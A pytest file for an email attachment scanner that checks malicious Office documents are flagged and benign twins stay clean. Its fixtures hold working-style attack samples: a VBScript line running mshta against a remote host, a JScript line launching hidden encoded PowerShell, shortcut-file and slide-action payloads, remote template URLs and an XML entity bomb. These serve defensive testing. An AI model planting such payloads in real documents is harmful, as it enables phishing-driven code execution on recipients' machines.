"""Office documents in shapes read like the .docx they stand for: Flat OPC and Word 2003
XML files, files packaged in OLE Package objects (OOXML, RTF, .doc), PowerPoint action
settings. Each attack beside its benign twin, in Japanese and English mail."""

from __future__ import annotations

import pytest
from cases import with_attachment

from mailcheck.api import scan_bytes
from mailcheck.model import Finding, ScanResult
from testkit.msg_writer import write_ole
from testkit.office import (
    build_docx_with_object,
    build_pptx,
    build_rtf,
    build_template_docx,
    build_word2003_xml,
    embedded_excel_ole,
    flat_opc_of,
    ole1_object,
    ole_package,
    package_ole,
)
from testkit.payloads import build_lnk

OCTET = "application/octet-stream"
REMOTE = "http://203.0.113.5/t.dotm"
JS = b'var s = new ActiveXObject("WScript.Shell"); s.Run("powershell -w hidden -e SQBFAFgA");'
VBS = b'CreateObject("WScript.Shell").Run "mshta http://203.0.113.9/a.hta"\r\n'
HTA = b"<html><head><script>new ActiveXObject('WScript.Shell').Run('calc')</script></head></html>"
MAILS = {
    "en": (
        ("From: Sales <sales@example.net>", "Subject: Re: order"),
        "Please find the order attached.\r\n",
    ),
    "ja": (
        ("From: =?utf-8?b?5Za25qWt6YOo?= <eigyo@example.net>", "Subject: Re: ご注文"),
        "ご注文書を添付いたします。ご確認ください。\r\n",
    ),
}


def scan(data: bytes, filename: str, lang: str) -> ScanResult:
    headers, text = MAILS[lang]
    return scan_bytes(with_attachment(data, filename, OCTET, *headers, text=text))


def found(result: ScanResult, finding_id: str) -> Finding:
    return next(f for f in result.findings if f.id == finding_id)


def ids(result: ScanResult) -> set[str]:
    return {f.id for f in result.findings}


def where(result: ScanResult) -> list[tuple[str, str]]:
    return [(f.id, f.evidence[0].location) for f in result.findings]


def paths(result: ScanResult) -> list[str]:
    return [node.path for top in result.attachments for node in top.walk()]


# --- Flat OPC and Word 2003 XML ----------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_flat_opc_remote_template_is_read_like_the_docx(lang: str) -> None:
    docx = build_template_docx(REMOTE)
    as_docx = found(scan(docx, "order.docx", lang), "attachment.template_injection")
    result = scan(flat_opc_of(docx), "order.xml", lang)
    hit = found(result, "attachment.template_injection")
    assert hit.evidence[0].location == "attachment 2/order.xml: word/_rels/settings.xml.rels"
    assert hit.facts()["relation"] == as_docx.facts()["relation"] == "attachedTemplate"
    assert hit.facts()["target"] == REMOTE
    assert result.verdict.label == "malicious"


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_flat_opc_with_a_local_template_stays_clean(lang: str) -> None:
    template = (
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    )
    from testkit.office import build_docx

    docx = build_docx(
        settings='<w:attachedTemplate r:id="rId1"/>',
        settings_rels=[(template, "Normal.dotm", False)],
    )
    result = scan(flat_opc_of(docx), "letter.xml", lang)
    assert result.verdict.label == "clean", ids(result)


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_word_2003_xml_remote_template(lang: str) -> None:
    result = scan(build_word2003_xml(template=REMOTE), "order.xml", lang)
    hit = found(result, "attachment.template_injection")
    assert hit.evidence[0].location == "attachment 2/order.xml: w:docPr"
    assert hit.facts()["target"] == REMOTE
    assert result.verdict.label == "malicious"
    local = scan(build_word2003_xml(template="Normal.dot"), "letter.xml", lang)
    assert local.verdict.label == "clean", ids(local)


def test_flat_opc_with_a_dtd_is_not_expanded() -> None:
    from mailcheck.containers import flat_opc

    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        b'<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
        b'<pkg:part pkg:name="/word/document.xml"><pkg:xmlData><d>&b;</d></pkg:xmlData>'
        b"</pkg:part></pkg:package>"
    )
    assert flat_opc.rebuild(bomb, max_parts=10, max_part_bytes=1000) is None
    assert scan(bomb, "bomb.xml", "en").verdict.label != "malicious"


def test_flat_opc_parts_are_bounded_and_a_damaged_tail_keeps_what_was_read() -> None:
    from mailcheck.containers import flat_opc

    xml = flat_opc_of(build_template_docx(REMOTE))
    rebuilt = flat_opc.rebuild(xml, max_parts=2, max_part_bytes=1 << 20)
    assert rebuilt is not None and len(rebuilt.names) == 2 and rebuilt.skipped
    cut = flat_opc.rebuild(xml[: len(xml) // 2], max_parts=100, max_part_bytes=1 << 20)
    assert cut is not None and cut.damaged and cut.names


# --- files in OLE Package objects ----------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "ja"])
@pytest.mark.parametrize(
    ("name", "payload"),
    [
        ("invoice.js", JS),
        ("invoice.vbs", VBS),
        ("invoice.hta", HTA),
        ("invoice.exe", b"MZ" + bytes(200)),
        ("invoice.pdf.lnk", None),
    ],
)
def test_packaged_program_in_a_docx_is_malicious(
    name: str, payload: bytes | None, lang: str
) -> None:
    data = (
        payload
        if payload is not None
        else build_lnk(target="powershell.exe", arguments="-w hidden -c calc")
    )
    result = scan(build_docx_with_object(package_ole(name, data)), "invoice.docx", lang)
    member = f"2/invoice.docx/oleObject1.bin/{name}"
    assert member in paths(result)
    located = {f.evidence[0].location for f in result.findings if f.severity == "critical"}
    assert f"attachment {member}" in located, [
        (f.id, f.evidence[0].location) for f in result.findings
    ]
    assert result.verdict.label == "malicious"


@pytest.mark.parametrize("lang", ["en", "ja"])
@pytest.mark.parametrize(
    "document",
    [
        lambda: build_docx_with_object(package_ole("notes.txt", b"Meeting notes\r\n")),
        lambda: build_docx_with_object(package_ole("figures.csv", b"month,total\r\n4,120\r\n")),
        lambda: build_docx_with_object(embedded_excel_ole()),
    ],
    ids=["txt", "csv", "excel-sheet"],
)
def test_packaged_data_and_embedded_sheets_stay_clean(document: object, lang: str) -> None:
    result = scan(document(), "report.docx", lang)  # type: ignore[operator]
    assert "2/report.docx/oleObject1.bin" in paths(result)
    assert result.verdict.label == "clean", [
        (f.id, f.evidence[0].location) for f in result.findings
    ]


def test_flat_opc_package_object_is_a_member_too() -> None:
    xml = flat_opc_of(build_docx_with_object(package_ole("invoice.vbs", VBS)))
    result = scan(xml, "invoice.xml", "ja")
    hit = found(result, "attachment.executable")
    assert hit.evidence[0].location == "attachment 2/invoice.xml/oleObject1.bin/invoice.vbs"
    assert result.verdict.label == "malicious"


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_rtf_package_file_is_a_member(lang: str) -> None:
    rtf = build_rtf((ole1_object("Package", ole_package("invoice.js", JS)),))
    result = scan(rtf, "letter.rtf", lang)
    assert "attachment 2/letter.rtf/invoice.js" in {
        f.evidence[0].location for f in result.findings if f.id == "attachment.executable"
    }
    benign = scan(build_rtf((ole1_object("Package", ole_package("a.txt", b"hi")),)), "a.rtf", lang)
    assert "2/a.rtf/a.txt" in paths(benign)
    assert "attachment.executable" not in ids(benign)


def test_doc_object_pool_package_is_a_member() -> None:
    native = ole_package("invoice.js", JS)
    doc = write_ole(
        [
            (["WordDocument"], bytes(512)),
            (["ObjectPool"], None),
            (["ObjectPool", "_1700000000"], None),
            (
                ["ObjectPool", "_1700000000", "\x01Ole10Native"],
                len(native).to_bytes(4, "little") + native,
            ),
        ]
    )
    result = scan(doc, "invoice.doc", "en")
    assert "2/invoice.doc/invoice.js" in paths(result)
    assert found(result, "attachment.executable").evidence[0].location.endswith("invoice.js")


def test_documents_without_a_package_never_reach_the_worker(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from mailcheck.analyzers.office import embedded

    calls: list[str] = []
    monkeypatch.setattr(embedded, "_entry", lambda: calls.append("called"))  # type: ignore[func-returns-value]
    scan(build_docx_with_object(embedded_excel_ole()), "sheet.docx", "en")
    scan(build_rtf(text="no objects"), "letter.rtf", "en")
    assert calls == []


# --- PowerPoint action settings ----------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "ja"])
@pytest.mark.parametrize(
    ("trigger", "action", "target"),
    [
        ("hlinkMouseOver", "ppaction://program", "powershell.exe -w hidden -c calc"),
        ("hlinkClick", "ppaction://program", "C:\\Windows\\System32\\cmd.exe"),
        ("hlinkClick", "", "\\\\203.0.113.5\\share\\invoice.exe"),
        ("hlinkMouseOver", "", "file:///C:/Users/Public/update.hta"),
        ("hlinkClick", "ppaction://hlinkfile", "http://203.0.113.5/invoice.js"),
    ],
)
def test_slide_action_that_runs_a_program_is_critical(
    trigger: str, action: str, target: str, lang: str
) -> None:
    result = scan(build_pptx([(trigger, action, target)], show=True), "results.ppsx", lang)
    hit = found(result, "attachment.slide_action")
    assert hit.evidence[0].location == "attachment 2/results.ppsx: ppt/slides/slide1.xml"
    assert hit.facts()["trigger"] == ("mouse-over" if trigger == "hlinkMouseOver" else "click")
    assert hit.facts()["action"] == (action or "hyperlink")
    assert result.verdict.label == "malicious"


@pytest.mark.parametrize("lang", ["en", "ja"])
@pytest.mark.parametrize("trigger", ["hlinkClick", "hlinkMouseOver"])
def test_slide_links_to_web_pages_stay_clean(trigger: str, lang: str) -> None:
    links = [(trigger, "", "https://www.example.com/results"), (trigger, "", "report.pdf")]
    result = scan(build_pptx(links), "results.pptx", lang)
    assert "attachment.slide_action" not in ids(result)
    assert result.verdict.label == "clean", where(result)
